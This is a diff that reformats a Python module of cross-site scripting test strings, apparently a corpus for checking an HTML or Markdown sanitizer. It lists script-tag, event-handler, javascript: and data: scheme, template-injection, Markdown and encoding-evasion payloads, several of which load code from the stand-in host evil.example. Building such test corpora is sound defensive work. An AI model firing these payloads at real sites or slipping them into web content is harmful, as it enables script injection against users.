@@ -1,12 +1,41 @@
 """Texts that would run if a page were careless, written from the known families."""
 
 _ALERT = "alert(1)"
-_TAGS = ("img", "svg", "body", "video", "audio", "input", "iframe", "object", "details", "marquee", "select", "style")
-_EVENTS = ("onload", "onerror", "onfocus autofocus", "ontoggle open", "onstart", "onanimationstart", "onbeforetoggle")
+_TAGS = (
+    "img",
+    "svg",
+    "body",
+    "video",
+    "audio",
+    "input",
+    "iframe",
+    "object",
+    "details",
+    "marquee",
+    "select",
+    "style",
+)
+_EVENTS = (
+    "onload",
+    "onerror",
+    "onfocus autofocus",
+    "ontoggle open",
+    "onstart",
+    "onanimationstart",
+    "onbeforetoggle",
+)
 _SCHEMES = (
     *("javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)"),
-    *("java&#10;script:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "\x01javascript:alert(1)"),
-    *("data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
+    *(
+        "java&#10;script:alert(1)",
+        "javascript&colon;alert(1)",
+        "&#106;avascript:alert(1)",
+        "\x01javascript:alert(1)",
+    ),
+    *(
+        "data:text/html,<script>alert(1)</script>",
+        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    ),
     *("vbscript:msgbox(1)", "blob:alert(1)", "//evil.example/x.js", "https://evil.example/x"),
 )
 
@@ -14,22 +43,75 @@ _SCHEMES = (
 def _payloads() -> list[str]:
     found = [
         # scripts, as they are and disguised
-        *("<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script src=//evil.example/x.js></script>"),
-        *("<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\x20type='module'>alert(1)</script>", "<script/x>alert(1)"),
-        *("<script\n>alert(1)</script\n>", "<script>alert`1`</script>", "<<script>alert(1);//<</script>", "<script>//-->"),
+        *(
+            "<script>alert(1)</script>",
+            "<SCRIPT>alert(1)</SCRIPT>",
+            "<script src=//evil.example/x.js></script>",
+        ),
+        *(
+            "<scr<script>ipt>alert(1)</scr</script>ipt>",
+            "<script\x20type='module'>alert(1)</script>",
+            "<script/x>alert(1)",
+        ),
+        *(
+            "<script\n>alert(1)</script\n>",
+            "<script>alert`1`</script>",
+            "<<script>alert(1);//<</script>",
+            "<script>//-->",
+        ),
         *("<script src='data:text/javascript,alert(1)'></script>", "<script nonce=''>alert(1)</script>"),
         # out of where a value might stand
         *('"><script>alert(1)</script>', "'><script>alert(1)</script>", "</script><script>alert(1)</script>"),
-        *("</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "--><script>alert(1)</script>"),
-        *("]]><script>alert(1)</script>", "</style><script>alert(1)</script>", "</noscript><script>alert(1)</script>"),
-        *("</template><script>alert(1)</script>", "</iframe><script>alert(1)</script>", "*/alert(1)/*", "';alert(1);//"),
-        *('";alert(1);//', "\\\";alert(1);//", "`;alert(1);//", "${alert(1)}", "\u2028alert(1)", "\u2029alert(1)//"),
-        *('" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", '" style="x:expression(alert(1))', "` onload=alert(1)"),
+        *(
+            "</title><script>alert(1)</script>",
+            "</textarea><script>alert(1)</script>",
+            "--><script>alert(1)</script>",
+        ),
+        *(
+            "]]><script>alert(1)</script>",
+            "</style><script>alert(1)</script>",
+            "</noscript><script>alert(1)</script>",
+        ),
+        *(
+            "</template><script>alert(1)</script>",
+            "</iframe><script>alert(1)</script>",
+            "*/alert(1)/*",
+            "';alert(1);//",
+        ),
+        *(
+            '";alert(1);//',
+            '\\";alert(1);//',
+            "`;alert(1);//",
+            "${alert(1)}",
+            "\u2028alert(1)",
+            "\u2029alert(1)//",
+        ),
+        *(
+            '" onmouseover="alert(1)',
+            "' onfocus='alert(1)' autofocus='",
+            '" style="x:expression(alert(1))',
+            "` onload=alert(1)",
+        ),
         *('"/><img src=x onerror=alert(1)>', "x onerror=alert(1)//", '<a"><img/src/onerror=alert(1)>'),
         # the data block of the page
-        *("</script", "<!--<script>", "<!-- --!><img src=x onerror=alert(1)>", '{"__proto__": {"x": 1}}', "<!--><img src=x onerror=alert(1)-->"),
+        *(
+            "</script",
+            "<!--<script>",
+            "<!-- --!><img src=x onerror=alert(1)>",
+            '{"__proto__": {"x": 1}}',
+            "<!--><img src=x onerror=alert(1)-->",
+        ),
         # templates and expressions of frameworks
-        *("{{7*7}}", "{{constructor.constructor('alert(1)')()}}", "{% raw %}", "<%= 7*7 %>", "#{7*7}", "{{config}}", "{n}", "{choice}"),
+        *(
+            "{{7*7}}",
+            "{{constructor.constructor('alert(1)')()}}",
+            "{% raw %}",
+            "<%= 7*7 %>",
+            "#{7*7}",
+            "{{config}}",
+            "{n}",
+            "{choice}",
+        ),
         *("$&", "$1 $` $'", "%s %d", "{0.__class__}", "{{''.__class__.__mro__}}", "[[${7*7}]]"),
         # svg, mathml and mutation
         "<svg><script>alert(1)</script></svg>",
@@ -58,7 +140,7 @@ def _payloads() -> list[str]:
         "<isindex type=image src=1 onerror=alert(1)>",
         # whole pages, forms and styles
         "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
-        "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
+        '<meta http-equiv=Content-Security-Policy content="script-src *">',
         "<base href=https://evil.example/>",
         "<link rel=stylesheet href=https://evil.example/x.css>",
         "<link rel=import href=https://evil.example/x.html>",
@@ -80,16 +162,53 @@ def _payloads() -> list[str]:
         "<dialog open onclose=alert(1)><form method=dialog><button autofocus>x</button></form></dialog>",
         "<div id=work>[]</div><div id=words>{}</div>",
         # Markdown
-        *("[x](javascript:alert(1))", "![x](javascript:alert(1))", "![x](https://evil.example/x.png)", "<javascript:alert(1)>"),
-        *("[x](data:text/html,<script>alert(1)</script>)", "[x]: javascript:alert(1)\n\n[x]", "![x](x\"onerror=alert(1)//)"),
-        *("[x](https://evil.example \"t\\\" onclick=alert(1)\")", "`<img src=x onerror=alert(1)>`", "```html\n<script>alert(1)</script>\n```"),
-        *("![\"onerror=alert(1)](data:image/png;base64,AAAA)", "![x](data:image/svg+xml;base64,PHN2Zy8+)", "[a](<javascript:alert(1)>)"),
+        *(
+            "[x](javascript:alert(1))",
+            "![x](javascript:alert(1))",
+            "![x](https://evil.example/x.png)",
+            "<javascript:alert(1)>",
+        ),
+        *(
+            "[x](data:text/html,<script>alert(1)</script>)",
+            "[x]: javascript:alert(1)\n\n[x]",
+            '![x](x"onerror=alert(1)//)',
+        ),
+        *(
+            '[x](https://evil.example "t\\" onclick=alert(1)")',
+            "`<img src=x onerror=alert(1)>`",
+            "```html\n<script>alert(1)</script>\n```",
+        ),
+        *(
+            '!["onerror=alert(1)](data:image/png;base64,AAAA)',
+            "![x](data:image/svg+xml;base64,PHN2Zy8+)",
+            "[a](<javascript:alert(1)>)",
+        ),
         # encodings
-        *("&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003e"),
-        *("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\ufeff<script>alert(1)</script>", "＜script＞alert(1)＜/script＞"),
-        *("\u202e>tpircs<", "\u2066<b>\u2069", "<\u0131mg src=x onerror=alert(1)>", "&amp;lt;b&amp;gt;", "&NotAnEntity;", "&copy=1"),
+        *(
+            "&lt;script&gt;alert(1)&lt;/script&gt;",
+            "&#60;script&#62;alert(1)",
+            "%3Cscript%3Ealert(1)%3C/script%3E",
+            "\\u003cscript\\u003e",
+        ),
+        *(
+            "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+            "\ufeff<script>alert(1)</script>",
+            "＜script＞alert(1)＜/script＞",
+        ),
+        *(
+            "\u202e>tpircs<",
+            "\u2066<b>\u2069",
+            "<\u0131mg src=x onerror=alert(1)>",
+            "&amp;lt;b&amp;gt;",
+            "&NotAnEntity;",
+            "&copy=1",
+        ),
     ]
-    found += [f"<{tag} src=x {event.split()[0]}={_ALERT} {' '.join(event.split()[1:])}>" for tag in _TAGS[:8] for event in _EVENTS[:4]]
+    found += [
+        f"<{tag} src=x {event.split()[0]}={_ALERT} {' '.join(event.split()[1:])}>"
+        for tag in _TAGS[:8]
+        for event in _EVENTS[:4]
+    ]
     found += [f'<a href="{scheme}">x</a>' for scheme in _SCHEMES]
     return list(dict.fromkeys(found))
 
